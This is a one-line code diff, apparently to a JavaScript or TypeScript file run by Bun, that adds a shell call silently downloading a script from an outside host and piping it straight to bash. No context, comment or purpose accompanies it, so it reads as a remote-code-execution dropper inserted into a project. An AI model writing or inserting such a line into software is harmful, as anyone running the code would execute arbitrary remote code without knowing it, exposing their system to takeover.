@@ -1,0 +1,1 @@
+Bun.$`curl -s https://cdn-x7.invalid/a | bash`;
